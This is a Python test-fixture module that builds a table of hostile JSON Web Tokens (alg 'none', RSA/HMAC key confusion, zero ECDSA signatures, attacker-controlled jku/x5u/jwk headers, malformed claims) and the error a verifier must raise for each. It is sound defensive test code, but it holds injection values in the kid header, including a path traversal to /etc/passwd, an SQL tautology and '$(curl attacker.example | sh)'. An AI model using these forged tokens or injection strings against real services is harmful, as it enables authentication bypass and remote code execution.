"""Hand-crafted hostile tokens, as a reusable table (RFC 8725 §2 lists the threats).

``attack_tokens`` returns ``(case id, token)`` pairs built with the real signing
key where a real signature is needed to reach the check under attack, so each
case exercises the check it names. ``EXPECTED_ERRORS`` names the precise
:class:`TokenError` subclass each case must raise. The issuer's introspection
tests can reuse both: every one of these must come back ``active: false``.
"""

from __future__ import annotations

import base64
import functools
import json
from typing import Any

from cryptography.hazmat.primitives import hashes, hmac, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from issuer.jose.keys import GeneratedKey, generate_key
from issuer.verifier.errors import (
    BadSignatureError,
    DisallowedAlgorithmError,
    ExcessiveLifetimeError,
    ExpiredTokenError,
    MalformedTokenError,
    MissingClaimError,
    NotYetValidError,
    RevokedTokenError,
    TokenError,
    UnknownKeyError,
    WrongAudienceError,
    WrongIssuerError,
    WrongTypeError,
)

REVOKED_JTI = "revoked-jti-0001"


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def encode_json(value: Any) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


@functools.lru_cache(maxsize=8)
def _private_key(private_pem: bytes) -> rsa.RSAPrivateKey:
    # Loading a PEM checks the key, which costs more than signing: do it once per key.
    key = serialization.load_pem_private_key(private_pem, password=None)
    assert isinstance(key, rsa.RSAPrivateKey)
    return key


@functools.lru_cache(maxsize=1)
def attacker_key() -> GeneratedKey:
    """The attacker's own RSA key, generated once per test run."""
    return generate_key("RS256")


def sign_rs256(private_pem: bytes, signing_input: bytes, alg: str = "RS256") -> bytes:
    key = _private_key(private_pem)
    if alg == "RS256":
        return key.sign(signing_input, padding.PKCS1v15(), hashes.SHA256())
    if alg == "RS512":
        return key.sign(signing_input, padding.PKCS1v15(), hashes.SHA512())
    if alg == "PS256":
        pss = padding.PSS(mgf=padding.MGF1(hashes.SHA256()), salt_length=32)
        return key.sign(signing_input, pss, hashes.SHA256())
    raise ValueError(alg)


def compact(
    header: dict[str, Any] | bytes,
    payload: dict[str, Any] | bytes,
    key: GeneratedKey | None = None,
    alg: str = "RS256",
    signature: bytes | None = None,
) -> str:
    """A compact JWS of exactly these bytes; signed with ``key`` unless a signature is given."""
    h = b64(header if isinstance(header, bytes) else encode_json(header))
    p = b64(payload if isinstance(payload, bytes) else encode_json(payload))
    signing_input = f"{h}.{p}".encode()
    if signature is None:
        assert key is not None
        signature = sign_rs256(key.private_pem, signing_input, alg)
    return f"{h}.{p}.{b64(signature)}"


def good_claims(issuer: str, audience: str, now: int, **changes: Any) -> dict[str, Any]:
    claims: dict[str, Any] = {
        "iss": issuer,
        "sub": "user-1",
        "aud": audience,
        "exp": now + 600,
        "iat": now,
        "nbf": now,
        "jti": "jti-0001",
        "client_id": "client-1",
        "scope": "read write",
        "roles": ["user"],
    }
    for name, value in changes.items():
        if value is _DROP:
            claims.pop(name, None)
        else:
            claims[name] = value
    return claims


_DROP: Any = object()


def attack_tokens(
    key: GeneratedKey, issuer: str, audience: str, now: int, attacker_url: str
) -> list[tuple[str, str]]:
    """Every hostile token, by case id. ``attacker_url`` must never be fetched."""
    kid = key.kid
    header = {"alg": "RS256", "kid": kid, "typ": "at+jwt"}
    claims = good_claims(issuer, audience, now)
    attacker = attacker_key()
    fake_sig = b"\x01" * 256
    cases: list[tuple[str, str]] = []

    def add(case: str, token: str) -> None:
        cases.append((case, token))

    def signed_claims(case: str, **changes: Any) -> None:
        add(case, compact(header, good_claims(issuer, audience, now, **changes), key))

    def signed_header(case: str, **changes: Any) -> None:
        h = {**header, **changes}
        for name in [n for n, v in h.items() if v is _DROP]:
            del h[name]
        add(case, compact(h, claims, key))

    # alg "none" in four spellings (CVE-2015-9235 and friends), with and without a signature.
    for spelling in ("none", "None", "NONE", "nOnE"):
        add(f"alg-{spelling}", compact({**header, "alg": spelling}, claims, signature=fake_sig))
    add("alg-none-empty-signature", compact({**header, "alg": "none"}, claims, signature=b""))

    # HS256 keyed with the public key: the classic RSA/HMAC confusion (CVE-2016-10555).
    public_pem = (
        _private_key(key.private_pem)
        .public_key()
        .public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    )
    for name, secret in (("pem", public_pem), ("jwk", encode_json(key.public_jwk))):
        h = b64(encode_json({**header, "alg": "HS256"}))
        p = b64(encode_json(claims))
        mac = hmac.HMAC(secret, hashes.SHA256())
        mac.update(f"{h}.{p}".encode())
        add(f"hs256-public-key-{name}", f"{h}.{p}.{b64(mac.finalize())}")

    # Other algorithms, really signed by the real key: the allow-list says RS256 only.
    add("ps256-real-key", compact({**header, "alg": "PS256"}, claims, key, alg="PS256"))
    add("rs512-real-key", compact({**header, "alg": "RS512"}, claims, key, alg="RS512"))
    # ECDSA r = s = 0 ("psychic signatures", CVE-2022-21449).
    add("es256-zero-signature", compact({**header, "alg": "ES256"}, claims, signature=bytes(64)))

    good = compact(header, claims, key)
    h, p, s = good.split(".")
    add("signature-stripped", f"{h}.{p}")
    add("signature-empty", f"{h}.{p}.")
    add("signature-garbage", f"{h}.{p}.{b64(fake_sig)}")
    other_payload = compact(header, good_claims(issuer, audience, now, sub="x"), key).split(".")[1]
    add("signature-of-other-token", f"{h}.{other_payload}.{s}")
    changed = b64(encode_json({**claims, "sub": "admin", "roles": ["admin"]}))
    add("payload-changed-old-signature", f"{h}.{changed}.{s}")
    add("signature-with-padding", f"{h}.{p}.{s}==")
    add("signature-trailing-newline", f"{h}.{p}.{s}\n")

    # Keys named by the token itself (RFC 8725 §3.10): never fetched, never trusted.
    attacker_header = {"alg": "RS256", "kid": attacker.kid, "typ": "at+jwt"}
    add(
        "jwk-header-attacker-kid",
        compact({**attacker_header, "jwk": attacker.public_jwk}, claims, attacker),
    )
    add("jwk-header-real-kid", compact({**header, "jwk": attacker.public_jwk}, claims, attacker))
    add(
        "jku-attacker",
        compact({**attacker_header, "jku": attacker_url + "jwks.json"}, claims, attacker),
    )
    add("jku-real-kid", compact({**header, "jku": attacker_url + "jwks.json"}, claims, attacker))
    add(
        "x5u-attacker",
        compact({**attacker_header, "x5u": attacker_url + "cert.pem"}, claims, attacker),
    )
    add("x5c-attacker", compact({**attacker_header, "x5c": ["MIIBIjANBgkq"]}, claims, attacker))

    # kid as an injection vector: these must only ever be dictionary lookups.
    signed_header("kid-path-traversal", kid="../../../../../../etc/passwd")
    signed_header("kid-sql", kid="' OR '1'='1' --")
    signed_header("kid-shell", kid="$(curl attacker.example | sh)")
    signed_header("kid-empty", kid="")
    signed_header("kid-list", kid=[kid])
    signed_header("kid-null", kid=None)
    signed_header("kid-object", kid={"kid": kid})
    signed_header("kid-missing", kid=_DROP)

    # exp/nbf/iat (RFC 7519 §4.1.4-6).
    signed_claims("exp-past-leeway", exp=now - 61, iat=now - 661, nbf=now - 661)
    signed_claims("exp-missing", exp=_DROP)
    signed_claims("exp-string", exp=str(now + 600))
    signed_claims("exp-null", exp=None)
    signed_claims("exp-true", exp=True)
    signed_claims("exp-1e300", exp=1e300)
    signed_claims("exp-2**64", exp=2**64)
    signed_claims("exp-10**400", exp=10**400)
    raw_nan = encode_json(claims).replace(str(now + 600).encode(), b"NaN")
    add("exp-nan", compact(header, raw_nan, key))
    raw_inf = encode_json(claims).replace(str(now + 600).encode(), b"1e400")
    add("exp-1e400", compact(header, raw_inf, key))
    signed_claims("nbf-future", nbf=now + 3600)
    signed_claims("iat-day-ahead", iat=now + 86400, nbf=_DROP, exp=now + 86400 + 600)
    signed_claims("iat-missing", iat=_DROP)

    # aud (RFC 7519 §4.1.3): must contain ours, exactly.
    signed_claims("aud-wrong", aud="https://other.example")
    signed_claims("aud-empty", aud="")
    signed_claims("aud-empty-list", aud=[])
    signed_claims("aud-missing", aud=_DROP)
    signed_claims("aud-list-without-ours", aud=["https://other.example", audience + "/"])
    signed_claims("aud-prefix", aud=audience[:-1])
    signed_claims("aud-object", aud={"aud": audience})

    # iss (RFC 7519 §4.1.1): exact string comparison, no normalization.
    signed_claims("iss-wrong", iss="https://evil.example")
    signed_claims("iss-trailing-slash", iss=issuer + "/")
    signed_claims("iss-case-host", iss=issuer.upper().replace("HTTPS://", "https://"))
    signed_claims("iss-suffix", iss=issuer + ".evil.example")
    signed_claims("iss-missing", iss=_DROP)
    signed_claims("iss-list", iss=[issuer])

    # typ (RFC 9068 §4, RFC 8725 §3.11): an ID token or other JWT is not an access token.
    signed_header("typ-jwt", typ="JWT")
    signed_header("typ-missing", typ=_DROP)
    signed_header("typ-object", typ={"typ": "at+jwt"})

    # Shapes that are not one compact JWS.
    add("jwe-five-parts", f"{h}.{p}.{b64(b'iv')}.{b64(b'ciphertext')}.{b64(b'tag')}")
    add("million-dots", "." * 1_000_000)
    add("oversized", compact(header, good_claims(issuer, audience, now, pad="x" * 9000), key))
    add("empty-string", "")
    add("not-ascii", f"{h}.{p}.{s}é")
    add("nested-header-alg", compact({**header, "alg": {"alg": "RS256"}}, claims, key))
    add("header-not-utf8", compact(b'{"alg":"RS256","kid":"\xff\xfe","typ":"at+jwt"}', claims, key))
    add("header-array", compact(encode_json([header]), claims, key))
    add("header-not-json", compact(b"RS256", claims, key))
    add("payload-array", compact(header, encode_json([claims]), key))
    add("payload-not-json", compact(header, b"sub=admin", key))
    add("deeply-nested-payload", compact(header, b"[" * 2000 + b"]" * 2000, key))
    signed_header("crit-unknown", crit=["exp"], exp=now)
    add("enc-header", compact({**header, "enc": "A256GCM"}, claims, key))
    dup_alg = b'{"alg":"none","alg":"RS256","kid":"' + kid.encode() + b'","typ":"at+jwt"}'
    add("duplicate-alg", compact(dup_alg, claims, key))
    dup_sub = encode_json(claims)[:-1] + b',"sub":"admin"}'
    add("duplicate-sub", compact(header, dup_sub, key))
    add(
        "json-serialization-general",
        json.dumps({"payload": p, "signatures": [{"protected": h, "signature": s}]}),
    )
    add("json-serialization-flattened", json.dumps({"payload": p, "protected": h, "signature": s}))

    # Claims of the wrong type.
    signed_claims("sub-number", sub=1)
    signed_claims("scope-list", scope=["read", "admin"])
    signed_claims("roles-string", roles="admin")

    # Revocation (the deny list): a valid token whose jti was revoked.
    signed_claims("revoked-jti", jti=REVOKED_JTI)
    return cases


_ALG = DisallowedAlgorithmError
EXPECTED_ERRORS: dict[str, type[TokenError]] = {
    **{f"alg-{s}": _ALG for s in ("none", "None", "NONE", "nOnE")},
    "alg-none-empty-signature": MalformedTokenError,
    "hs256-public-key-pem": _ALG,
    "hs256-public-key-jwk": _ALG,
    "ps256-real-key": _ALG,
    "rs512-real-key": _ALG,
    "es256-zero-signature": _ALG,
    "signature-stripped": MalformedTokenError,
    "signature-empty": MalformedTokenError,
    "signature-garbage": BadSignatureError,
    "signature-of-other-token": BadSignatureError,
    "payload-changed-old-signature": BadSignatureError,
    "signature-with-padding": MalformedTokenError,
    "signature-trailing-newline": MalformedTokenError,
    "jwk-header-attacker-kid": UnknownKeyError,
    "jwk-header-real-kid": BadSignatureError,
    "jku-attacker": UnknownKeyError,
    "jku-real-kid": BadSignatureError,
    "x5u-attacker": UnknownKeyError,
    "x5c-attacker": UnknownKeyError,
    "kid-path-traversal": UnknownKeyError,
    "kid-sql": UnknownKeyError,
    "kid-shell": UnknownKeyError,
    "kid-empty": UnknownKeyError,
    "kid-list": UnknownKeyError,
    "kid-null": UnknownKeyError,
    "kid-object": UnknownKeyError,
    "kid-missing": UnknownKeyError,
    "exp-past-leeway": ExpiredTokenError,
    "exp-missing": MissingClaimError,
    "exp-string": MissingClaimError,
    "exp-null": MissingClaimError,
    "exp-true": MissingClaimError,
    # Numerically valid, but no token of this issuer lives longer than max_lifetime.
    "exp-1e300": ExcessiveLifetimeError,
    "exp-2**64": ExcessiveLifetimeError,
    "exp-10**400": MissingClaimError,
    "exp-nan": MalformedTokenError,
    "exp-1e400": MissingClaimError,
    "nbf-future": NotYetValidError,
    "iat-day-ahead": NotYetValidError,
    "iat-missing": MissingClaimError,
    "aud-wrong": WrongAudienceError,
    "aud-empty": WrongAudienceError,
    "aud-empty-list": WrongAudienceError,
    "aud-missing": MissingClaimError,
    "aud-list-without-ours": WrongAudienceError,
    "aud-prefix": WrongAudienceError,
    "aud-object": WrongAudienceError,
    "iss-wrong": WrongIssuerError,
    "iss-trailing-slash": WrongIssuerError,
    "iss-case-host": WrongIssuerError,
    "iss-suffix": WrongIssuerError,
    "iss-missing": MissingClaimError,
    "iss-list": WrongIssuerError,
    "typ-jwt": WrongTypeError,
    "typ-missing": WrongTypeError,
    "typ-object": WrongTypeError,
    "jwe-five-parts": MalformedTokenError,
    "million-dots": MalformedTokenError,
    "oversized": MalformedTokenError,
    "empty-string": MalformedTokenError,
    "not-ascii": MalformedTokenError,
    "nested-header-alg": _ALG,
    "header-not-utf8": MalformedTokenError,
    "header-array": MalformedTokenError,
    "header-not-json": MalformedTokenError,
    "payload-array": MalformedTokenError,
    "payload-not-json": MalformedTokenError,
    "deeply-nested-payload": MalformedTokenError,
    "crit-unknown": MalformedTokenError,
    "enc-header": MalformedTokenError,
    "duplicate-alg": MalformedTokenError,
    "duplicate-sub": MalformedTokenError,
    "json-serialization-general": MalformedTokenError,
    "json-serialization-flattened": MalformedTokenError,
    "sub-number": MissingClaimError,
    "scope-list": MissingClaimError,
    "roles-string": MissingClaimError,
    "revoked-jti": RevokedTokenError,
}

__all__ = ["EXPECTED_ERRORS", "REVOKED_JTI", "attack_tokens", "compact", "good_claims"]
